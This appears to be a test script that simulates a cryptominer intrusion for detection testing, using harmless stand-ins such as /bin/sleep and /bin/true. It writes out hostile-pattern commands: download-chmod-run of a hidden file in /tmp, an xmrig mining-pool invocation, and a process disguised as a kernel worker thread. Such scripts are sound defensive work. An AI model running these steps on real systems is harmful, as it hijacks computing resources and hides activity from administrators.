# Somebody else's electricity: a miner is fetched, made executable, run under the name of a thread of the kernel's.
. "$(dirname "$0")/scene.sh"
curl -s -o /tmp/.cache "http://127.0.0.1:$web/" || true
cp /bin/sleep /tmp/.cache
chmod 755 /tmp/.cache
deed download-chmod-run
/tmp/.cache 0
cp /bin/true /usr/local/bin/xmrig
deed miner
/usr/local/bin/xmrig -o stratum+tcp://203.0.113.7:3333 -u wallet -p x --donate-level 1
deed false-kernel-thread
bash -c 'exec -a "[kworker/0:1]" sleep 0.1'
rm -f /tmp/.cache
